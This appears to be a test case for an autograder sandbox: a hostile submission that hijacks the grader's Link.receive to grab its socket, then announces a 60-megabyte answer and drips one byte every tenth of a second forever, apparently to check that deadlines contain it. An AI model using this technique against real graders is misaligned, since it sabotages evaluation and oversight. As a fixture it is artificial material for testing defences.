# story: begins an answer of sixty megabytes and sends a byte of it now and then
# kind: containment
# place: answer w03_e05
# attacks: w03_e05
# score: w03_e05 = 0, others = full
# status: graded
# seconds: 100
# defence: deadlines
import struct
import time

from autograder.sandbox.link import Link

receive = Link.receive


def remember(self):
    global link, call
    link, message = self, receive(self)
    call = message.call_id
    return message


Link.receive = remember


def classify_system(A, b):
    link._socket.sendall(struct.pack(">2sB16sI", b"LA", 1, call, 60_000_000))
    while True:
        link._socket.send(b"\xc0")
        time.sleep(0.1)
